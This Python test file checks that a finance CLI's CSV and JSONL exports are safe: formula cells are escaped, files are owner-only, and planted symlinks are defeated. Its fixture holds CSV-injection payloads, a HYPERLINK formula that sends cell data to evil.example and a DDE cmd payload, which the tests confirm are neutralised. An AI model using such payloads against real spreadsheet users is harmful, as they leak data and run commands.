"""Exports are safe to open: no cell a spreadsheet would evaluate, owner-only files written
atomically, never through a planted link, and an unknown provider is an error."""

import csv
import json
import os
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner

from portal.app import Portal
from portal.cli import ExitCode, cli
from portal.export import inert_cell
from portal.record import Transaction

HOSTILE_CSV = (
    "Date,Type,Merchant/Description,Debit/Credit,Balance\n"
    '03/01/2026,POS,"=HYPERLINK(""https://evil.example/?d=""&A1,""refund"")",-£1.00,£99.00\n'
    "02/01/2026,POS,'=1+1 GUARDED BY THE BANK,-£1.00,£100.00\n"
    "01/01/2026,POS,@SUM(1+1)*cmd|' /C calc'!A0,£101.00,£101.00\n"
)


def run(home: Path, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, ["--home", str(home), *args], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def imported(tmp_path: Path) -> Path:
    """A home holding a midata CSV whose descriptions are formulas, imported by the CLI."""
    home, statement = tmp_path / "home", tmp_path / "midata.csv"
    statement.write_text(HOSTILE_CSV, encoding="utf-8")
    code, _, err = run(home, "import", str(statement), "--account", "current")
    assert code == ExitCode.OK, err
    return home


def _csv_descriptions(folder: Path) -> set[str]:
    with (folder / "transactions.csv").open(encoding="utf-8", newline="") as handle:
        return {row["description"] for row in csv.DictReader(handle)}


def test_the_store_keeps_the_providers_text_and_the_csv_export_is_inert(
    imported: Path, tmp_path: Path
) -> None:
    with Portal.open(home=imported) as portal:
        stored = {t["description"] for t in portal.store.rows(Transaction, "midata")}
    # The provider's own values, the bank's protective apostrophe included.
    assert stored == {
        '=HYPERLINK("https://evil.example/?d="&A1,"refund")',
        "'=1+1 GUARDED BY THE BANK",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    for fmt in ("csv", "jsonl"):
        code, _, err = run(imported, "export", "--format", fmt, "--out", str(tmp_path / fmt))
        assert code == ExitCode.OK, err
    assert _csv_descriptions(tmp_path / "csv") == {
        '\'=HYPERLINK("https://evil.example/?d="&A1,"refund")',
        "'=1+1 GUARDED BY THE BANK",  # already guarded: not guarded twice
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    }
    with (tmp_path / "csv" / "transactions.csv").open(encoding="utf-8", newline="") as handle:
        amounts = {row["amount"] for row in csv.DictReader(handle)}
    assert amounts == {"-1.00", "101.00"}  # numbers stay numbers
    lines = (tmp_path / "jsonl" / "transactions.jsonl").read_text(encoding="utf-8").splitlines()
    assert {json.loads(line)["description"] for line in lines} == stored  # data: exact


@pytest.mark.parametrize(
    ("cell", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("1e-5", "1e-5"),
        ("Tesco - Kensington", "Tesco - Kensington"),
        ("", ""),
        (None, None),
        (12, 12),
    ],
)
def test_inert_cell_follows_owasp(cell: object, exported: object) -> None:
    assert inert_cell(cell) == exported


def test_export_files_are_owner_only_whatever_existed(imported: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir(mode=0o755)
    out.chmod(0o755)
    stale = out / "transactions.csv"
    stale.write_text("old\n")
    stale.chmod(0o644)
    code, _, err = run(imported, "export", "--format", "csv", "--out", str(out))
    assert code == ExitCode.OK, err
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    for path in out.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stale.read_text().startswith("id,")  # replaced, not appended to
    assert sorted(p.name for p in out.iterdir() if p.name.startswith(".")) == []  # no temp left


def test_a_link_planted_at_a_file_name_is_replaced_and_its_target_untouched(
    imported: Path, tmp_path: Path
) -> None:
    out, victim = tmp_path / "out", tmp_path / "victim.txt"
    out.mkdir(mode=0o700)
    victim.write_text("precious\n")
    (out / "transactions.csv").symlink_to(victim)
    (out / "manifest.json").symlink_to(victim)
    code, _, err = run(imported, "export", "--format", "csv", "--out", str(out))
    assert code == ExitCode.OK, err
    assert victim.read_text() == "precious\n"
    for name in ("transactions.csv", "manifest.json"):
        assert not (out / name).is_symlink() and (out / name).stat().st_size > 0


def test_a_link_planted_at_the_folder_is_refused(imported: Path, tmp_path: Path) -> None:
    elsewhere, out = tmp_path / "elsewhere", tmp_path / "out"
    elsewhere.mkdir(mode=0o755)
    out.symlink_to(elsewhere, target_is_directory=True)
    code, _, err = run(imported, "export", "--format", "csv", "--out", str(out))
    assert code == ExitCode.USER_ERROR
    assert "symbolic link" in err and str(out) in err
    assert list(elsewhere.iterdir()) == []
    assert stat.S_IMODE(elsewhere.stat().st_mode) == 0o755


def test_an_unknown_provider_is_an_error_naming_the_known_ones(
    imported: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    code, stdout, err = run(imported, "export", "--provider", "nosuch", "--out", str(out))
    assert code == ExitCode.USER_ERROR
    assert "'nosuch'" in err and "bank" in err and "midata" in err
    assert stdout == "" and not out.exists()
    code, _, err = run(imported, "export", "--provider", "midata", "--out", str(out))
    assert code == ExitCode.OK, err  # a provider only the store knows (an import) is fine


def test_a_new_folder_and_its_files_are_owner_only_whatever_the_umask(
    imported: Path, tmp_path: Path
) -> None:
    old = os.umask(0)
    try:
        code, _, err = run(imported, "export", "--out", str(tmp_path / "new" / "out"))
    finally:
        os.umask(old)
    assert code == ExitCode.OK, err
    out = tmp_path / "new" / "out"
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    assert {stat.S_IMODE(p.stat().st_mode) for p in out.iterdir()} == {0o600}


def test_a_whole_export_carries_what_portal_concluded_and_a_rule_s_pattern_is_inert(
    imported: Path, tmp_path: Path
) -> None:
    code, _, err = run(imported, "categories", "rule", "=HYPERLINK*", "shopping")
    assert code == ExitCode.OK, err
    for fmt in ("csv", "jsonl"):
        code, _, err = run(imported, "export", "--format", fmt, "--out", str(tmp_path / fmt))
        assert code == ExitCode.OK, err
    manifest = json.loads((tmp_path / "jsonl" / "manifest.json").read_text(encoding="utf-8"))
    derived = {name for name, f in manifest["files"].items() if f.get("derived")}
    assert {"transaction_categories.jsonl", "links.jsonl", "record_versions.jsonl"} <= derived
    with Portal.open(home=imported) as portal:
        ids = {t["id"] for t in portal.store.rows(Transaction, "midata")}
    lines = (tmp_path / "jsonl" / "transaction_categories.jsonl").read_text(encoding="utf-8")
    decided = {row["transaction_id"]: row for row in map(json.loads, lines.splitlines())}
    assert set(decided) == ids  # every transaction's category, as the store holds it
    assert {r["rule"] for r in decided.values()} >= {"person:=HYPERLINK*"}
    fields = manifest["files"]["transaction_categories.jsonl"]["fields"]
    assert all(f["description"] for f in fields.values())  # every column said in words
    with (tmp_path / "csv" / "category_rules.csv").open(encoding="utf-8", newline="") as handle:
        assert [row["pattern"] for row in csv.DictReader(handle)] == ["'=HYPERLINK*"]
    code, _, err = run(imported, "export", "--provider", "midata", "--out", str(tmp_path / "m"))
    assert code == ExitCode.OK, err
    assert not (tmp_path / "m" / "transaction_categories.jsonl").exists()  # across providers
